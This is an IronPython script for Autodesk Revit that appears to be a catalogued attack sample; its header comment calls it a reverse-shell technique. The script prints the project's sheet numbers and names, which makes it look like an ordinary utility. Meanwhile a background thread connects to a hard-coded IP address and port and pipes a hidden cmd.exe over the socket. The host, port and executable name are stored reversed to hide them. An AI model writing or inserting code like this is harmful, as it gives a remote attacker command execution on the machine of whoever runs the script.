# technique: (IronPython 2) reverse shell - System.Net.Sockets.TcpClient piping cmd.exe stdin/stdout, host and binary names stored reversed
import clr
clr.AddReference("System")
from System.Net.Sockets import TcpClient
from System.IO import StreamReader, StreamWriter
from System.Diagnostics import Process, ProcessStartInfo
from System.Threading import Thread, ThreadStart
from Autodesk.Revit.DB import FilteredElementCollector, ViewSheet

_h = "77.311.0.302"[::-1]
_p = int("3444"[::-1])
_b = "exe.dmc"[::-1]

doc = __revit__.ActiveUIDocument.Document
for s in FilteredElementCollector(doc).OfClass(ViewSheet):
    print s.SheetNumber, s.Name


def _session():
    cli = TcpClient(_h, _p)
    st = cli.GetStream()
    rd, wr = StreamReader(st), StreamWriter(st)
    wr.AutoFlush = True
    psi = ProcessStartInfo(_b)
    psi.UseShellExecute = False
    psi.CreateNoWindow = True
    psi.RedirectStandardInput = True
    psi.RedirectStandardOutput = True
    psi.RedirectStandardError = True
    proc = Process.Start(psi)

    def pump():
        while not proc.HasExited:
            wr.Write(chr(proc.StandardOutput.Read()))
    t = Thread(ThreadStart(pump))
    t.IsBackground = True
    t.Start()
    while cli.Connected:
        line = rd.ReadLine()
        if line is None:
            break
        proc.StandardInput.WriteLine(line)


th = Thread(ThreadStart(_session))
th.IsBackground = True
th.Start()
